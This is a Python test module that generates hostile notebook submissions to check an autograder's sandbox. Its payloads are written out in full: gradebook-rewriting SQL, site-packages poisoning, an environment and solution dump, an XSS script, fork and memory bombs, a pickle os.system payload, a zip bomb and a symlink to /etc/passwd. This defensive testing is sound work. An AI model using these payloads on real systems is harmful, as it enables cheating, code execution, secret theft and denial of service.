"""A hostile class: one simulated student per attack on the grader (issue 9), for tests and the demo.

Each attacker starts from the blank release (so it has earned nothing) and puts its attack in
the first answer cell. An attack tries every path it can guess (the course root it was told
of, the folders above its own), catches every error and goes on, and leaves a marker wherever
it managed to write. The grader is right when every attacker scores exactly what it earned,
its peers are unchanged, no marker exists outside the sandbox and no secret reaches its
autograded notebook or its feedback.

    notebooks = kernel_attackers(release, source, course_root, assignment)   # {student: notebook}
    files = checkpoint_attackers(folder_of)                                   # 06_challenge files
"""
from __future__ import annotations

import os
import zipfile
from pathlib import Path

from . import simulate

MARKER = "HOSTILE-MARKER-5f2c"  # written into every file an attack manages to change
OLD_PUBLIC_SKIP_TAG = "course-skip-7d1f93c0a5e2"  # the skip-tag value this repository once published
BIG_LINE_BYTES = 30 * 10**6

# Code shared by the attacks: the places a student's code would look for the grader's files.
_PRELUDE = """
import os, sys, glob, json, sqlite3, site, pathlib
_ROOT = pathlib.Path({root!r})
_ROOTS = [_ROOT] + list(pathlib.Path.cwd().parents)[:4]
def _try(fn, *args):
    try:
        return fn(*args)
    except BaseException as exc:
        return f"failed: {{type(exc).__name__}}"
def _append(path, text="\\n# {marker}\\n"):
    with open(path, "a") as f:
        f.write(text)
    return "written"
def _write(path, text="{marker}"):
    pathlib.Path(path).parent.mkdir(parents=True, exist_ok=True)
    pathlib.Path(path).write_text(text)
    return "written"
"""

ATTACKS: dict[str, str] = {
    # Rewrite every score in the gradebook to full marks (a blank went 0 -> 14/14 before the sandbox).
    "gradebook": """
for _r in _ROOTS:
    _db = _r / "gradebook.db"
    if _db.exists():
        def _rewrite(db=_db):
            con = sqlite3.connect(db)
            con.execute("UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)")
            con.execute("UPDATE grade SET manual_score = 0")
            con.commit()
            return "written"
        print("gradebook", _db, _try(_rewrite))
""",
    # Overwrite the submissions of the students graded after this one.
    "peer": """
for _r in _ROOTS:
    for _stage in ("submitted", "autograded"):
        for _nb in glob.glob(str(_r / _stage / "*" / "*" / "*.ipynb")) + glob.glob(str(_r / _stage / "*" / "*" / "*.pt")):
            print("peer", _nb, _try(_write, _nb))
""",
    # Poison the code the TA runs next: helpers, the course config, a .pth and sitecustomize in site-packages.
    "poison": """
import helpers
print("helpers", _try(_append, helpers.__file__))
for _r in _ROOTS:
    print("config", _try(_append, _r / "nbgrader_config.py"))
    print("sitecustomize", _try(_write, _r / "sitecustomize.py", "print('{{\\"status\\": \\"ok\\", \\"accuracy\\": 1.0}}')  # {marker}"))
for _sp in site.getsitepackages() + [site.getusersitepackages()]:
    print("pth", _try(_write, pathlib.Path(_sp) / "zz_hostile.pth", "# {marker}"))
    print("sitecustomize", _try(_write, pathlib.Path(_sp) / "sitecustomize.py", "# {marker}"))
""",
    # Relabel the cached test sets (own model 20/20, every good model 0 before the sandbox).
    "cache": """
import numpy as np
from helpers.config import data_dir
for _d in [data_dir() / "cache"] + [_r / "data" / "cache" for _r in _ROOTS]:
    for _f in glob.glob(str(_d / "*.npz")):
        def _relabel(f=_f):
            z = dict(np.load(f, allow_pickle=False))
            z["test_labels"] = np.zeros_like(z["test_labels"])
            np.savez(f, **z)
            return "written"
        print("cache", _f, _try(_relabel))
    print("cache", _try(_write, _d / "{marker}.npz"))
""",
    # A tiers file that gives every model full marks.
    "tiers": """
_all = {{"cifar10": {{"metric": "accuracy", "tiers": [[0.0, 1.0]]}}, "cifar100": {{"metric": "macro_f1", "tiers": [[0.0, 1.0]]}}}}
for _r in _ROOTS:
    print("tiers", _try(_write, _r / "grading_tiers.json", json.dumps(_all)))
""",
    # Read the hidden tests and solutions, and the kernel's environment, into its own feedback.
    "reader": """
for _r in _ROOTS:
    for _nb in glob.glob(str(_r / "source" / "*" / "*.ipynb")):
        print("source", _nb, _try(lambda p=_nb: open(p).read()))
print("environ", json.dumps(dict(os.environ)))
""",
    # Script in its own output, to run in the browser of whoever opens the feedback page.
    "html": """
from IPython.display import HTML, display
display(HTML('<script>alert("hostile-xss")</script><img src=x onerror="alert(2)">'))
""",
    # The kernel's own stderr: flood it and try to rewrite the TA's log file through it.
    "stderr": """
os.write(2, b"\\x1b[2J" + b"e" * 5_000_000)
print("truncate", _try(os.ftruncate, 2, 0))
""",
    # A 30 MB single line of output (the old limit counted lines).
    "bigline": f"""
print("x" * {BIG_LINE_BYTES})
""",
    # Fill memory until something stops it.
    "membomb": """
_hoard = []
while True:
    _hoard.append(bytearray(50_000_000))
""",
    # Fork until something stops it.
    "forkbomb": """
import time as _time
_n = 0
while _n < 5000:
    try:
        _pid = os.fork()
    except OSError:
        break
    if _pid == 0:
        _time.sleep(2)
        os._exit(0)
    _n += 1
print("forked", _n)
""",
}


def _attack_cell(name: str, course_root) -> str:
    body = _PRELUDE.format(root=str(Path(course_root).resolve()), marker=MARKER) + ATTACKS[name]
    return "\n".join(line.replace("{marker}", MARKER) if "{marker}" in line else line for line in body.split("\n"))


def attacker(release, source, course_root, names=("gradebook", "peer", "poison")):
    """The blank release with several ATTACKS in its first answer cell (the demo's hostile student)."""
    first = [a for a in simulate.answer_ids(source) if a.endswith("-answer")][0]
    code = "\n".join(_attack_cell(name, course_root) for name in names)
    return simulate.with_answer(simulate.blank(release), first, code)


def kernel_attackers(release, source, course_root, assignment: str) -> dict:
    """{student id: notebook}: one blank submission per entry of ATTACKS, plus the tag, exit and deletion attacks."""
    answers = simulate.answer_ids(source)
    code_answers = [a for a in answers if a.endswith("-answer")]
    first = code_answers[0]
    out = {f"x-{name}": simulate.with_answer(simulate.blank(release), first, _attack_cell(name, course_root))
           for name in ATTACKS}
    # Every test cell tagged to be skipped: the public tag and the repository's old "secret" one.
    tagged = simulate.blank(release)
    for test in simulate.autograded_ids(source):
        tagged = simulate.tag_cell(simulate.tag_cell(tagged, test, "skip-execution"), test, OLD_PUBLIC_SKIP_TAG)
    out["x-skiptags"] = tagged
    # The solution up to the second block, then os._exit in the third answer: keeps the first two blocks.
    solved = simulate.solution(release, source)
    third = code_answers[2]
    out["x-exit"] = simulate.with_answer(solved, third, "import os\nos._exit(1)\n")
    # The solution with a written answer and the locked prompt before it deleted: both come back.
    prompts = [a for a in answers if a.startswith("q-")]
    if prompts:
        nb = simulate.delete_cell(solved, prompts[0])
        out["x-deleted-q"] = simulate.delete_cell(nb, prompts[0] + "-prompt")
    return out


# ----------------------------------------------------------------------------- issue 10: the in-kernel tests

# Code in one answer cell that switches off every later check in the same kernel (all earned
# 10/10 on a blank 01_data when the hidden tests ran in the kernel). Built-up names on purpose.
BYPASSES: dict[str, str] = {
    "ast": """
import importlib, ast
_ip = importlib.import_module("IPy" + "thon").get_ipython()
class _Swallow(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
        return ast.fix_missing_locations(node)
getattr(_ip, "ast_" + "transformers").append(_Swallow())
""",
    "input": """
import base64, builtins
getattr(builtins, "ex" + "ec")(base64.b64decode({payload!r}).decode())
""",
    "custom_exc": """
_ip = get_ipython()
_ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
def _clear(result):
    result.error_in_exec = None
_ip.events.register("post_run_cell", _clear)
""",
    "checks": """
import importlib
class _Nop:
    def __getattr__(self, name):
        return lambda *args, **kwargs: None
checks = _Nop()
_m = importlib.import_module("helpers" + ".checks")
for _name in ("check", "check_equal", "check_close", "check_shape", "check_dtype"):
    setattr(_m, _name, lambda *args, **kwargs: None)
""",
}
_INPUT_TRANSFORMER = ("get_ipython().input_transformers_post.append(lambda lines: ['try:\\n'] + "
                      "['    ' + line for line in lines] + ['\\nexcept BaseException:\\n    pass\\n'])")

# A function whose return value would run code when unpickled (directly and nested), plus raw
# frames with a pickle inside written to every descriptor the protocol might use.
PICKLE = """
import os
class _Payload:
    def __reduce__(self):
        return (os.system, ("touch {marker_path}",))
def _forge():
    import json, struct
    blob = b"\\x80\\x04\\x95" + bytes(40)
    head = json.dumps({{"ok": {{"$nd": {{"dtype": "|O", "shape": [1], "buf": 0}}}}, "sizes": [len(blob)]}}).encode()
    for fd in range(3, 12):
        try:
            os.write(fd, struct.pack(">II", len(head), 1) + head + blob)
        except OSError:
            pass
"""


def bypass_attackers(release, source) -> dict:
    """{student id: notebook}: the blank release with one BYPASSES attack in its first answer cell."""
    import base64
    first = [a for a in simulate.answer_ids(source) if a.endswith("-answer")][0]
    out = {}
    for name, code in BYPASSES.items():
        if name == "input":
            code = code.format(payload=base64.b64encode(_INPUT_TRANSFORMER.encode()).decode())
        out[f"x-bypass-{name}"] = simulate.with_answer(simulate.blank(release), first, code)
    return out


def pickle_attacker(release, source, marker_path) -> dict:
    """{"x-pickle": notebook}: every answer returns a payload (nested too); the second forges frames."""
    answers = [a for a in simulate.answer_ids(source) if a.endswith("-answer")]
    nb = simulate.blank(release)
    for i, answer in enumerate(answers):
        name = answer[:-len("-answer")]
        body = "return _forge()" if i == 1 else "return [_Payload(), {'k': _Payload()}]"
        nb = simulate.with_answer(nb, answer, PICKLE.format(marker_path=marker_path)
                                  + f"def {name}(*args, **kwargs):\n    {body}\n")
    return {"x-pickle": nb}


_ROUTES = (
    "from {module} import {name} as {ref}\n",
    "import {module} as {ref}_module\n{ref} = {ref}_module.{name}\n",
    "import importlib\n{ref} = getattr(importlib.import_module({module_parts}), {name_parts})\n",
)


def dropin_attacker(release, source, denied: dict[str, str]) -> dict:
    """{"x-dropin": notebook}: every answer cell wraps the helpers reference its block denies,
    reached by a direct import, an alias, importlib with built-up names, or (every fourth block) a
    name bound at import time in the first answer cell. `denied`: {answer grade_id: dotted name}."""
    answers = [a for a in simulate.answer_ids(source) if a.endswith("-answer")]
    nb, early = simulate.blank(release), ""
    for i, answer in enumerate(a for a in answers if a in denied):
        module, name = denied[answer].rsplit(".", 1)
        ref = f"_ref{i}"
        route = _ROUTES[i % 3].format(module=module, name=name, ref=ref,
                                      module_parts=f"{module[:4]!r} + {module[4:]!r}",
                                      name_parts=f"{name[:2]!r} + {name[2:]!r}")
        if i % 4 == 3:  # bound early, in the first answer cell, used here
            early += route
            route = ""
        function = answer[:-len("-answer")]
        nb = simulate.with_answer(nb, answer, route + f"def {function}(*args, **kwargs):\n"
                                                     f"    return {ref}(*args, **kwargs)\n")
    if early:
        first = answers[0]
        cell = nb.cells[simulate.cell_index(nb, first)]
        nb = simulate.with_answer(nb, first, early + cell.source)
    return {"x-dropin": nb}


# Library shortcuts the specs forbid, each a working answer by another route: {assignment: {answer: code}}.
SHORTCUTS: dict[str, dict[str, str]] = {
    "02_augmentation": {"random_crop-answer": """
def random_crop(x, padding, generator):  # one Python step per image
    if padding == 0:
        return x
    n, _, h, w = x.shape
    padded = torch.nn.functional.pad(x, (padding, padding, padding, padding))
    dy = torch.randint(0, 2 * padding + 1, (n,), generator=generator, device=x.device)
    dx = torch.randint(0, 2 * padding + 1, (n,), generator=generator, device=x.device)
    return torch.stack([padded[i, :, dy[i]:dy[i] + h, dx[i]:dx[i] + w] for i in range(n)])
"""},
    "04_training": {"label_smoothing_cross_entropy-answer": """
import torch.nn.functional as _F
def label_smoothing_cross_entropy(logits, targets, smoothing):
    return _F.cross_entropy(logits, targets, label_smoothing=smoothing)
"""},
    "05_evaluation": {"confusion_matrix-answer": """
from sklearn.metrics import confusion_matrix as _sk_confusion_matrix
def confusion_matrix(y_true, y_pred, num_classes):
    return _sk_confusion_matrix(y_true, y_pred, labels=list(range(num_classes))).astype(np.int64)
""", "fgsm-answer": """
def fgsm(model, x, y, eps):  # fills the parameters' .grad, which the spec forbids
    model.eval()
    x_in = x.detach().clone().requires_grad_(True)
    with torch.enable_grad():
        F.cross_entropy(model(x_in), y).backward()
    return (x.detach() + eps * x_in.grad.sign()).detach()
"""},
}


def shortcut_attacker(release, source, assignment: str) -> dict:
    """{"x-shortcut": notebook}: the solution with each SHORTCUTS answer of the assignment swapped in."""
    nb = simulate.solution(release, source)
    for answer, code in SHORTCUTS.get(assignment, {}).items():
        nb = simulate.with_answer(nb, answer, code)
    return {"x-shortcut": nb}


def exit_kept_blocks(source) -> list[str]:
    """The test cells x-exit must keep: every block but the third, whose answer ends the process
    (the harness leaves that cell out and grades the others on their own code)."""
    return [tests for i, (_, tests) in enumerate(simulate.blocks(source)) if i != 2]


# ----------------------------------------------------------------------------- checkpoints

def _meta_bomb(path: Path) -> None:
    """A valid course checkpoint (a few KB) whose model description asks for a 1,000,000-channel convolution."""
    import torch
    from ..models.checkpoint import save_checkpoint
    from ..models import build_model
    layers = [{"type": "conv", "out": 8}, {"type": "relu"}, {"type": "globalpool"}, {"type": "linear", "out": 10}]
    save_checkpoint(path, build_model("layers", layers=layers), history=[], mean=[0.5] * 3, std=[0.25] * 3)
    ckpt = torch.load(path, map_location="cpu", weights_only=True)
    ckpt["model"]["kwargs"]["layers"][0]["out"] = 1_000_000
    for key in ("extra", "spec"):
        if isinstance(ckpt.get(key), dict) and "kwargs" in ckpt[key]:
            ckpt[key]["kwargs"]["layers"][0]["out"] = 1_000_000
    ckpt["state_dict"] = {}
    torch.save(ckpt, path)


def _zip_bomb(path: Path, tensor_bytes: int = 2 * 10**9) -> None:
    """A torch zip checkpoint whose one tensor storage inflates to `tensor_bytes` of zeros (~2 MB on disk)."""
    import io
    import torch
    buf = io.BytesIO()
    torch.save({"model": {"name": "layers", "kwargs": {}}, "state_dict": {"w": torch.zeros(4)}}, buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as src, \
            zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.endswith("/data/0"):  # the tensor's storage, inflated to 2 GB when read
                bomb = zipfile.ZipInfo(info.filename)
                bomb.compress_type = zipfile.ZIP_DEFLATED
                with dst.open(bomb, "w", force_zip64=True) as f:
                    chunk = bytes(2**24)
                    for _ in range(tensor_bytes // len(chunk)):
                        f.write(chunk)
            else:
                dst.writestr(info, data)


CHECKPOINT_ATTACKS = {
    "x-metabomb": lambda folder, name: _meta_bomb(folder / name),
    "x-zipbomb": lambda folder, name: _zip_bomb(folder / name),
    "x-devzero": lambda folder, name: (folder / name).symlink_to("/dev/zero"),
    "x-passwd": lambda folder, name: (folder / name).symlink_to("/etc/passwd"),
    "x-fifo": lambda folder, name: os.mkfifo(folder / name),
}


def checkpoint_attackers(folders: dict, checkpoint_name: str) -> None:
    """Put each CHECKPOINT_ATTACKS file as `checkpoint_name` into folders[student] (after submit)."""
    for student, make in CHECKPOINT_ATTACKS.items():
        folder = Path(folders[student])
        target = folder / checkpoint_name
        if target.exists() or target.is_symlink():
            target.unlink()
        make(folder, checkpoint_name)


def course_fingerprint(paths) -> dict:
    """{path: (size, mtime_ns, first bytes hash)} of every file under `paths`: to prove nothing changed."""
    import hashlib
    out = {}
    for base in map(Path, paths):
        files = [base] if base.is_file() else sorted(p for p in base.rglob("*") if p.is_file() and not p.is_symlink())
        for p in files:
            if "__pycache__" in p.parts:
                continue
            try:
                out[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest()
            except OSError:
                out[str(p)] = "unreadable"
    return out
